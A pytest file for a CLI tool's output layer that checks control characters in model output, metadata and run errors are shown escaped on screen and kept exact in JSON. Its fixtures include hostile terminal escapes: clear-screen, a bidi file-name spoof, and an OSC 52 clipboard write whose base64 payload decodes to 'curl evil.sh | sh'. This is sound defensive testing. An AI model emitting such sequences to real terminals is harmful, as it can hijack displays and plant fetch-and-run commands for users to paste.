"""Untrusted text stays text: model output, remote metadata and run errors reach the terminal with
their control characters made visible, while ``--json`` keeps them exactly."""

from __future__ import annotations

import json

import pytest

from assistdb.cli.output import printable
from tests.cli.conftest import Cli, assert_one_line_error

CLEAR_SCREEN = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
BIDI = "\u202eexe.txt\u202c"
HOSTILE = f"refund{CLEAR_SCREEN} policy {CLIPBOARD} file {BIDI} bell\x07 c1\x9b31m nul\x00 cr\r"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\x00", "\r")


def assert_safe(text: str) -> None:
    for char in RAW:
        assert char not in text, (char, text)


def test_printable_shows_controls_and_keeps_text() -> None:
    assert printable("\x1b[2J") == "\\x1b[2J"
    assert printable(CLIPBOARD) == "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
    assert printable("a\u202eb\u2066c\u2069") == "a\\u202eb\\u2066c\\u2069"
    assert printable("\x9b\x7f\x00\r") == "\\x9b\\x7f\\x00\\x0d"
    assert printable("two\nlines\tand tab") == "two\nlines\tand tab"
    assert printable("two\nlines\t", multiline=False) == "two\\x0alines\\x09"
    assert printable("déjà vu 東京 🙂 — “quoted”") == "déjà vu 東京 🙂 — “quoted”"
    assert printable("lone \ud800 surrogate") == "lone \\ud800 surrogate"


@pytest.fixture
def hostile_thread(sqlite_cli: Cli) -> dict[str, str]:
    assistant = sqlite_cli.json("assistants", "create", "--name", f"bot{CLEAR_SCREEN}", "--model", "gpt-4o")
    thread = sqlite_cli.json("threads", "create", "--message", HOSTILE, "--metadata", f"note={HOSTILE[:200]}")
    run = sqlite_cli.json("runs", "create", thread["id"], "--assistant", assistant["id"], "--wait")
    return {"assistant": assistant["id"], "thread": thread["id"], "run": run["id"]}


def test_every_human_readable_view_escapes_hostile_text(
    sqlite_cli: Cli, hostile_thread: dict[str, str]
) -> None:
    thread_id = hostile_thread["thread"]
    messages = sqlite_cli.json("messages", "list", thread_id)
    reply = messages[-1]
    assert reply["content"][0]["text"]["value"] == f"You said: {HOSTILE}"  # the model echoed it
    views = [
        ("threads", "list"),
        ("threads", "show", thread_id),
        ("threads", "transcript", thread_id),
        ("messages", "list", thread_id),
        ("messages", "show", reply["id"]),
        ("messages", "history", reply["id"]),
        ("runs", "show", hostile_thread["run"]),
        ("assistants", "list", "--archived"),
        ("assistants", "show", hostile_thread["assistant"], "--archived"),
    ]
    for view in views:
        result = sqlite_cli.ok(*view)
        assert_safe(result.stdout)
        assert_safe(result.stderr)
    shown = sqlite_cli.ok("messages", "show", reply["id"]).stdout
    assert "\\x1b]52;c;" in shown and "\\u202e" in shown  # visible, not dropped
    assert "\\x1b[2J" in sqlite_cli.ok("threads", "transcript", thread_id).stdout


def test_json_keeps_hostile_text_exactly(sqlite_cli: Cli, hostile_thread: dict[str, str]) -> None:
    result = sqlite_cli.ok("messages", "list", hostile_thread["thread"], "--json")
    assert_safe(result.stdout)  # JSON escapes control characters itself
    first = json.loads(result.stdout)[0]
    assert first["content"][0]["text"]["value"] == HOSTILE
    thread = json.loads(sqlite_cli.ok("threads", "show", hostile_thread["thread"], "--json").stdout)
    assert thread["metadata"]["note"] == HOSTILE[:200]


def test_a_hostile_run_error_is_one_escaped_line(sqlite_cli: Cli) -> None:
    assistant = sqlite_cli.json("assistants", "create", "--name", "bot", "--model", "gpt-4o")
    thread = sqlite_cli.json("threads", "create", "--message", f"/fail boom{CLEAR_SCREEN}{CLIPBOARD}")
    result = sqlite_cli("runs", "create", thread["id"], "--assistant", assistant["id"], "--wait")
    line = assert_one_line_error(result, 5, "boom\\x1b[2J")
    assert_safe(result.stderr)
    assert_safe(result.stdout)
    assert "\\x1b]52" in line
